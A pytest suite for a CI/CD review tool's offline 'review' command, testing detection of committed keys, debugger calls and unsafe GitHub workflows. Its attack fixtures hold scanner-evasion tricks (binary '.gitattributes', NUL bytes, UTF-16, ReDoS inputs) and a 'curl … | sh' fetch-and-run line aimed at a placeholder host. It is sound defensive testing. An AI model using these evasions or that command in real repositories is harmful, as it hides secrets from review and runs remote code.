"""``cicd-agent review`` on a local repository, offline: the command-line contract."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.git_builder import GitRepoBuilder
from tests.harness.action_runner import parse_github_output
from tests.helpers.bounded import run_bounded
from tests.helpers.cli import run_cli

CLI = Path(sys.executable).parent / "cicd-agent"
AWS_KEY = "AKIA" + "QWERTYUIOPASDFGH"


@pytest.fixture
def repo(tmp_path: Path) -> tuple[GitRepoBuilder, str, str]:
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit("base", {"src/billing.py": "def total(items):\n    return sum(items)\n"})
    head = builder.commit(
        "add discount",
        {
            "src/billing.py": (
                "import pdb\n\n"
                "def total(items, discount=0):\n"
                "    pdb.set_trace()\n"
                f"    aws_key = '{AWS_KEY}'\n"
                "    return sum(items) - discount\n"
            ),
            "docs/billing.md": "# Billing\n",
        },
    )
    return builder, base, head


def runner_env(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "out").touch()
    (tmp_path / "summary").touch()
    return {
        "GITHUB_OUTPUT": str(tmp_path / "out"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "RUNNER_TEMP": str(tmp_path),
    }


def run(argv: list[str], environ: dict[str, str], tmp_path: Path) -> tuple[int, str, str]:
    """``cicd-agent ARGV`` with exactly ``environ`` (``runner_env``'s files, which tests read
    back, or none: a developer's terminal)."""
    done = run_cli(argv, tmp_path, environ, on_runner=False)
    return done.code, done.stdout, done.stderr


def test_offline_review_writes_outputs_summary_and_sarif(
    repo: tuple[GitRepoBuilder, str, str], tmp_path: Path
) -> None:
    builder, base, head = repo
    environ = runner_env(tmp_path)
    args = ["review", "--repo", str(builder.path), "--base", base, "--head", head]
    code, stdout, _ = run([*args, "--provider", "none"], environ, tmp_path)

    assert code == 0
    outputs = parse_github_output((tmp_path / "out").read_text())
    assert outputs["decision"] == "comment"
    assert (outputs["critical_count"], outputs["high_count"], outputs["findings_count"]) == (
        "1",
        "1",
        "2",
    )
    assert outputs["risk_level"] in ("low", "medium", "high", "critical")
    assert outputs["review_url"] == "" and outputs["tokens_used"] == "0"
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    assert Path(outputs["sarif_file"]).parent == tmp_path
    assert {r["ruleId"] for r in sarif["runs"][0]["results"]} == {
        "cicd-agent/secret",
        "cicd-agent/debugger",
    }
    summary = (tmp_path / "summary").read_text()
    assert "| critical | `src/billing.py:5` | Possible AWS access key id committed |" in summary
    assert AWS_KEY not in summary + stdout + (tmp_path / "out").read_text()
    # The step exits 0 (no fail-on), and a critical or high finding is still an error: a
    # committed secret printed as a warning.
    annotation = (
        "::error title=critical%3A Possible AWS access key id committed,file=src/billing.py"
    )
    assert f"{annotation},line=5::" in stdout
    assert "::error title=high" in stdout  # the debugger call
    assert "::warning title=critical" not in stdout and "::warning title=high" not in stdout


def test_fail_on_makes_the_step_fail(repo: tuple[GitRepoBuilder, str, str], tmp_path: Path) -> None:
    builder, base, head = repo
    args = [
        "review",
        "--repo",
        str(builder.path),
        "--base",
        base,
        "--head",
        head,
        "--provider",
        "none",
    ]
    assert run([*args, "--fail-on", "critical"], runner_env(tmp_path), tmp_path)[0] == 1
    summary = (tmp_path / "summary").read_text()
    assert "| Fail on | critical |" in summary
    # The first sentence says the threshold was met and the exit code that follows.
    assert summary.split("\n\n")[1].startswith(
        "**fail-on critical was met, so this step fails with exit 1:** 1 finding(s) at or "
        "above critical; the most severe: critical Possible AWS access key id committed "
        "(src/billing.py:5)."
    ), summary
    terminal = run([*args, "--fail-on", "critical"], {}, tmp_path)[1]
    assert "cicd-agent review\n\nfail-on critical was met, so this step fails with exit 1: " in (
        terminal
    )
    (tmp_path / "summary").write_text("")
    assert run([*args], runner_env(tmp_path), tmp_path)[0] == 0
    summary = (tmp_path / "summary").read_text()
    # with no fail-on the step stays green, and its first line says so and what would fail it
    assert summary.split("\n\n")[1].startswith(
        "**Nothing fails this step: fail-on is not set.** `--fail-on critical`"), summary
    assert summary.split("\n\n")[2].startswith("Review decision: comment"), summary


def test_invalid_severities_are_usage_errors(
    repo: tuple[GitRepoBuilder, str, str], tmp_path: Path
) -> None:
    builder, base, head = repo
    args = [
        "review",
        "--repo",
        str(builder.path),
        "--base",
        base,
        "--head",
        head,
        "--provider",
        "none",
    ]
    code, stdout, _ = run([*args, "--fail-on", "hihg"], runner_env(tmp_path), tmp_path)
    assert code == 2 and "fail-on 'hihg' is not valid for review" in stdout
    environ = runner_env(tmp_path) | {"INPUT_REPORT_ON": "severe"}
    code, stdout, _ = run(args, environ, tmp_path)
    assert code == 2 and "report-on 'severe' is not a severity" in stdout


def test_json_document_and_report_on(repo: tuple[GitRepoBuilder, str, str], tmp_path: Path) -> None:
    builder, base, head = repo
    argv = [
        "review", "--repo", str(builder.path), "--base", base, "--head", head,
        "--provider", "none", "--json", "--report-on", "critical",
        "--sarif-file", str(tmp_path / "x.sarif"),
    ]  # fmt: skip
    code, stdout, _ = run(argv, {}, tmp_path)
    document = json.loads(stdout)
    assert code == 0
    assert document["decision"] == "comment" and document["findings_count"] == 1
    assert document["sarif_file"] == str(tmp_path / "x.sarif")
    # and the reader is told where it is, not only a later step (it never said before)
    assert f"written to `{tmp_path / 'x.sarif'}`" in " ".join(document["notes"])
    assert [f["rule"] for f in document["findings"]] == ["secret", "debugger"]
    assert document["report_on"] == "critical"


def test_missing_base_and_missing_repository_are_usage_errors(tmp_path: Path) -> None:
    # Outside a runner a mistake is one line on stderr.
    code, _, stderr = run(["review", "--repo", str(tmp_path), "--provider", "none"], {}, tmp_path)
    assert code == 2 and "review needs a pull request or a base commit" in stderr
    code, _, stderr = run(
        ["review", "--repo", str(tmp_path), "--base", "HEAD~1", "--provider", "none"], {}, tmp_path
    )
    assert code == 2 and "is not a git repository" in stderr
    assert len(stderr.splitlines()) == 1


def test_console_script_dry_run_prints_the_review_as_plain_text(
    repo: tuple[GitRepoBuilder, str, str], tmp_path: Path
) -> None:
    builder, base, head = repo
    completed = subprocess.run(
        [str(CLI), "review", "--repo", str(builder.path), "--base", base, "--head", head,
         "--provider", "none", "--dry-run", "--sarif-file", str(tmp_path / "r.sarif")],
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
    )  # fmt: skip
    assert completed.returncode == 0, completed.stderr
    out = completed.stdout
    assert "Review (dry run: nothing was posted)" in out
    assert "src/billing.py line 4\n\nhigh · Leftover debugger call" in out
    assert "##" not in out and "**" not in out  # a terminal gets no Markdown
    assert out.count("Review decision:") == 1  # the dry run's body and the summary share it
    assert AWS_KEY not in out


def test_review_audits_a_changed_workflow_on_its_changed_lines(tmp_path: Path) -> None:
    """The issue's miss: github-script's ``script:`` was never checked (13.9)."""
    builder = GitRepoBuilder(tmp_path / "repo")
    old = "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n"
    old += "    steps:\n      - run: echo '${{ github.event.issue.title }}'\n"
    base = builder.commit("base", {".github/workflows/greet.yml": old})
    new = old + (
        "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7\n"
        "        with:\n"
        "          script: console.log('${{ github.event.issue.body }}')\n"
    )
    head = builder.commit("greet in JS too", {".github/workflows/greet.yml": new})
    environ = runner_env(tmp_path)
    args = ["review", "--repo", str(builder.path), "--base", base, "--head", head]
    code, _, _ = run([*args, "--provider", "none"], environ, tmp_path)
    assert code == 0
    outputs = parse_github_output((tmp_path / "out").read_text())
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    places = {
        (r["ruleId"], r["locations"][0]["physicalLocation"]["region"]["startLine"])
        for r in sarif["runs"][0]["results"]
    }
    assert ("cicd-agent/workflow-template-injection", 10) in places
    assert all(line != 7 for _, line in places), "line 7 was already there: not this change's"


# ----------------------------------- Attacks: a pull request that steers git with its own files
# A pull request that steers git with its own files must not blind the review floor.
#
# The attack: the PR adds ``.gitattributes`` with ``* binary`` (or ``* -diff``,
# or a diff driver the runner's config makes binary or textconv'd), a committed AWS key and a
# ``pull_request_target`` workflow that checks out the head. The review runs in the PR's checkout,
# so git read the PR's attributes and every file became "Binary files differ": no finding, exit 0.


WORKFLOW = """\
on: pull_request_target
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: make
"""

HOSTILE = {
    "binary": "* binary\n",
    "minus-diff": "* -diff\n",
    "driver": "* diff=hide\n",
}


def _attack(tmp_path: Path, attributes: str) -> tuple[GitRepoBuilder, str, str]:
    builder = GitRepoBuilder(tmp_path / "repo")
    # What a runner's own configuration may hold: a driver that hides text, read only when an
    # attribute names it. The PR's `.gitattributes` names it for every file.
    builder.git("config", "diff.hide.binary", "true")
    builder.git("config", "diff.hide.textconv", "sed d")
    builder.git("config", "diff.hide.command", "true")
    base = builder.commit(
        "base",
        {
            ".gitattributes": "*.dat -diff\n",
            "src/app.py": "def main():\n    return 0\n",
            "logo.png": b"\x89PNG\0\0\0",
            "table.dat": "1 2 3\n",
        },
    )
    head = builder.commit(
        "add deploy",
        {
            ".gitattributes": "*.dat -diff\n" + attributes,
            "table.dat": "1 2 3 4\n",
            "src/app.py": f"def main():\n    key = '{AWS_KEY}'\n    return 0\n",
            ".github/workflows/build.yml": WORKFLOW,
            "logo.png": b"\x89PNG\0\0\1",
        },
    )
    return builder, base, head


def _review(
    tmp_path: Path, builder: GitRepoBuilder, base: str, head: str
) -> tuple[int, dict[str, str], str]:
    (tmp_path / "out").touch()
    (tmp_path / "summary").touch()
    environ = {
        "GITHUB_OUTPUT": str(tmp_path / "out"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "RUNNER_TEMP": str(tmp_path),
    }
    argv = ["review", "--repo", str(builder.path), "--base", base, "--head", head,
            "--provider", "none", "--fail-on", "high"]  # fmt: skip
    done = run_cli(argv, tmp_path, environ, on_runner=False)
    outputs = parse_github_output((tmp_path / "out").read_text())
    return done.code, outputs, (tmp_path / "summary").read_text()


@pytest.mark.parametrize("attributes", HOSTILE.values(), ids=HOSTILE.keys())
def test_pr_attributes_do_not_hide_the_changed_lines(tmp_path: Path, attributes: str) -> None:
    builder, base, head = _attack(tmp_path, attributes)
    code, outputs, summary = _review(tmp_path, builder, base, head)

    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    rules = {result["ruleId"] for result in sarif["runs"][0]["results"]}
    assert "cicd-agent/secret" in rules
    assert "cicd-agent/workflow-pwn-request" in rules
    assert "cicd-agent/git-settings" in rules
    assert int(outputs["critical_count"]) >= 1
    # The summary's list of binary files is the base's view: the image by its bytes, the table
    # by the base's `-diff`; the code and the workflow are text, whatever the PR's lines say.
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`logo.png` (binary)" in listed and "`table.dat` (binary)" in listed
    assert "src/app.py" not in listed and "build.yml" not in listed


NUL_HIDDEN = {
    "script": ("build.sh", f"#!/bin/sh\n#\0\ncurl -s https://x.example/i | sh\nK={AWS_KEY}\n"),
    "key-file": ("deploy/keys.env", f"AWS_ACCESS_KEY_ID={AWS_KEY}\n\0"),
    "changed": ("src/app.py", f"def main():\n    key = '{AWS_KEY}'\n    return 0\n# \0\n"),
}


@pytest.mark.parametrize("path, text", NUL_HIDDEN.values(), ids=NUL_HIDDEN.keys())
def test_a_nul_byte_does_not_hide_a_text_file(tmp_path: Path, path: str, text: str) -> None:
    """git calls a file binary for one NUL byte when no attribute decides: the pull request
    chose which of its files no rule read. Text with a stray NUL is read as text; a real
    binary (the image) and what the base's ``-diff`` marks stay binary."""
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit(
        "base", {"src/app.py": "def main():\n    return 0\n", "logo.png": b"\x89PNG\0\0\0"}
    )
    head = builder.commit("hide", {path: text, "logo.png": b"\x89PNG\0\0\2"})
    code, outputs, summary = _review(tmp_path, builder, base, head)

    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    assert any(
        result["ruleId"] == "cicd-agent/secret"
        and result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == path
        for result in sarif["runs"][0]["results"]
    )
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`logo.png` (binary)" in listed and path not in listed


LEFT_HIDDEN = {
    # PowerShell runs a UTF-16 script as readily as a UTF-8 one; git calls it binary.
    "utf-16-script": ("deploy.ps1", f"\ufeff$k = '{AWS_KEY}'\r\n".encode("utf-16-le")),
    # Past the bytes read to tell text from binary (1 MiB), a stray NUL still hides a file.
    "padded": ("dist/app.js", ("//\0\n" + "x\n" * 600_000 + f"k='{AWS_KEY}'\n").encode()),
    # A NUL, then more control bytes than text has (a log's colour codes): no encoding reads it.
    "control-bytes": (
        "deploy/run.log",
        ("\0" + "\x1b[31mERROR\x1b[0m retry\n" * 40 + f"AWS_ACCESS_KEY_ID={AWS_KEY}\n").encode(),
    ),
    # The key as plain bytes, then enough UTF-16 text that the file reads as UTF-16: the key's
    # bytes then decode as other characters.
    "mixed-encodings": (
        "deploy/keys.env",
        f"AWS_ACCESS_KEY_ID={AWS_KEY}\n".encode() + "region: eu-west-1\n".encode("utf-16-le") * 8,
    ),
    # A key inside real binary data (a keystore, a pickle, a database page).
    "in-binary-data": (
        "deploy/store.db",
        bytes(range(256)) * 4 + f"aws_access_key_id={AWS_KEY}".encode() + bytes(range(256)),
    ),
    # The same inside binary data as UTF-16 (a Windows resource, a .NET assembly's strings).
    "utf-16-in-binary-data": (
        "deploy/app.dll",
        b"MZ\x90\0" + bytes(range(256)) + f"AWS_ACCESS_KEY_ID={AWS_KEY}".encode("utf-16-le"),
    ),
}


@pytest.mark.parametrize("path, data", LEFT_HIDDEN.values(), ids=LEFT_HIDDEN.keys())
def test_text_git_calls_binary_is_still_read(tmp_path: Path, path: str, data: bytes) -> None:
    """Attack: a UTF-16 script, or a NUL past the bytes read to tell text from binary: the
    diff shows "Binary files differ" and no rule read the key. The file stays binary in the
    diff shown; the secret rules read its added text from the blobs."""
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit("base", {"src/app.py": "def main():\n    return 0\n"})
    head = builder.commit("hide", {path: data})
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    assert _secret_paths(outputs) == {path}


def _secret_paths(outputs: dict[str, str]) -> set[str]:
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    return {
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for result in sarif["runs"][0]["results"]
        if result["ruleId"] == "cicd-agent/secret"
    }


def test_the_bases_minus_diff_hides_a_file_from_the_diff_never_from_the_secret_rules(
    tmp_path: Path,
) -> None:
    """Attack: the base marks ``*.min.js -diff`` (a usual line for minified bundles); the pull
    request adds a key to one. The diff shows it binary, as GitHub does, and no rule read it.
    The key is found, on its line; the key the base already held in its bundle is not this
    change's, and the file is still listed as binary."""
    old_key = "AKIA" + "ZXCVBNMLKJHGFDSA"
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit(
        "base",
        {
            ".gitattributes": "*.min.js -diff\n",
            "dist/app.min.js": f"var a=1;var k='{old_key}';\n",
        },
    )
    head = builder.commit(
        "bundle",
        {"dist/app.min.js": f"var a=1;var k='{old_key}';\nvar b='{AWS_KEY}';\n"},
    )
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    lines = [
        result["locations"][0]["physicalLocation"]["region"]["startLine"]
        for result in sarif["runs"][0]["results"]
        if result["ruleId"] == "cicd-agent/secret"
    ]
    assert lines == [2], sarif["runs"][0]["results"]
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`dist/app.min.js` (binary)" in listed
    assert AWS_KEY not in summary


# -------------------------------------------- Attacks: lines that stalled the signature readers
# Red team (a mode stalled by hostile text): two patterns read every line of a pull request's
# hunks with quantifiers that can take the same whitespace, so a line of spaces costs cubic time.
#
# - ``risk.evidence._FUNCTION`` (``(?:public|…|\s)+[\w<>\[\],\s]*?\b(\w+)\s*\(``), asked for
#   the function around an added ``return True``, in review and in deploy-gate: a line of a few
#   thousand spaces stalled the run, a 20 KB line for hours.
# - ``analysis.definitions.DEFINITION`` (``^\s*…[\w<>\[\],.*&\s]+\s+\**\w+\s*\(``), asked
#   for the definition each changed line is in by ``--describe``: the same lines stalled it.
#
# Each run below took hours before the patterns were made linear; it is given a deadline many
# times what a review of a small change takes.


SPACES = " " * 20_000


def _review_ends(tmp_path: Path, files: dict[str, str], *extra: str) -> None:
    repo = GitRepoBuilder(tmp_path / "project")
    base = repo.commit("Initial", {"app.py": "VALUE = 1\n"})
    head = repo.commit("Change", files)
    argv = ["review", "--repo", str(repo.path), "--base", base, "--head", head,
            "--provider", "none", "--sarif-file", str(tmp_path / "r.sarif"), *extra]  # fmt: skip
    script = "import sys\nfrom cicd_agent.cli import main\nsys.exit(main(sys.argv[1:], environ={}))"
    done = run_bounded([sys.executable, "-c", script, *argv], cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]


def test_a_line_of_spaces_before_an_added_return_true_does_not_stall_review(
    tmp_path: Path,
) -> None:
    # in brackets: the file still parses (a syntax error would fail the step by itself)
    source = f"VALUE = [\n{SPACES}x\n]\ndef allowed():\n    return True\n"
    _review_ends(tmp_path, {"app.py": source})


def test_a_line_of_spaces_does_not_stall_the_description(tmp_path: Path) -> None:
    _review_ends(tmp_path, {"app.py": f"VALUE = [\n{SPACES}x\n]\n"}, "--describe")


# ----------------------------------------- Attacks: curl commands that stalled the secret rules
# Red team, round three (a mode stalled by hostile text): gitleaks' ``curl-auth-user`` and
# ``curl-auth-header`` rules (``\bcurl\b(?:.*?|.*?(?:[\r\n]{1,2}.*?){1,5})[ \t\n\r](?:-u|…``)
# are searched over the whole text, and each ``curl`` on a line starts a lazy scan to the end of
# that line and five more: quadratic in the line. ``find_secrets`` on one line of ``curl -u ``
# repeated quadruples its time each time the line doubles: a review of a file holding one such
# line of tens of KB stalled, a few MiB of them take hours, and a log of such lines (each cut
# to 8 KB) stalled its redaction for minutes.
#
# The fix (``Rule.reach``, tried in ``analysis/secrets/matcher.py`` ``_matches``): for
# these two rules a start after the first ``curl`` of a line can only match what the first
# one's ``.*?`` reaches too, so one try per line (from its first keyword) finds every match,
# in linear time. Given the same deadline as the first round's stall tests.


CURL_LINE = "curl -u " * 8_000


def test_a_line_of_curl_commands_does_not_stall_review(tmp_path: Path) -> None:
    _review_ends(tmp_path, {"deploy.sh": CURL_LINE + "\n"})


def test_a_renamed_binary_file_is_read_against_its_old_path(tmp_path: Path) -> None:
    """A binary file moved with its key is not this change's key; a key a moved binary file
    gains, and one in a new binary file beside it, are, each read one blob at a time."""
    old_key = "AKIA" + "ZXCVBNMLKJHGFDSA"
    moved_key = "AKIA" + "POIUYTREWQLKJHGF"
    store = bytes(range(256)) * 64 + f"aws_access_key_id={old_key}\n".encode()
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit("base", {"assets/store.db": store, "src/app.py": "x = 1\n"})
    head = builder.commit(
        "move",
        {
            "data/store.db": store + f"aws_access_key_id={moved_key}\n".encode(),
            "data/new.db": bytes(range(256)) + f"aws_access_key_id={AWS_KEY}\n".encode(),
        },
        remove=("assets/store.db",),
    )
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    found = {
        (r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["message"]["text"])
        for r in sarif["runs"][0]["results"]
        if r["ruleId"] == "cicd-agent/secret"
    }
    assert {path for path, _ in found} == {"data/store.db", "data/new.db"}, found
    assert len(found) == 2, found


def test_one_secret_scan_serves_the_risk_floor_and_the_findings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: review's risk (its security floor) and its findings each scanned the whole
    diff for secrets, doubling the time of a large change (20 s on a 600,000-line file where
    one scan took 2.4 s). One scan serves both: the key is reported and raises the risk."""
    from cicd_agent.analysis import findings
    from cicd_agent.analysis.diff import Diff
    from cicd_agent.analysis.finding import Finding

    scans: list[int] = []
    real = findings.diff_findings

    def counted(diff: Diff) -> list[Finding]:
        scans.append(len(diff.files))
        return real(diff)

    for where in ("analysis.findings", "modes.review.collect", "local.range_findings"):
        monkeypatch.setattr(f"cicd_agent.{where}.diff_findings", counted)
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit("base", {"src/app.py": "def main():\n    return 0\n"})
    head = builder.commit("key", {"src/settings.py": f"KEY = '{AWS_KEY}'\n"})
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    assert _secret_paths(outputs) == {"src/settings.py"}
    assert outputs["risk_level"] == "critical", summary
    assert len(scans) == 1


def test_a_folder_inside_the_repository_names_its_top_folder(
    repo: tuple[GitRepoBuilder, str, str], tmp_path: Path
) -> None:
    """A new user's `--repo ./match`, a folder of the repository: "not a git repository" named
    no fix; git's search stops at the folder given, so the fix is its top folder."""
    builder, base, _ = repo
    inside = builder.path / "sub"
    inside.mkdir()
    code, _, stderr = run(["review", "--repo", str(inside), "--base", base, "--provider", "none"],
                          {}, tmp_path)  # fmt: skip
    assert code == 2, stderr
    assert f"{inside} is a folder inside the repository at {builder.path}" in stderr, stderr
    assert len(stderr.splitlines()) == 1
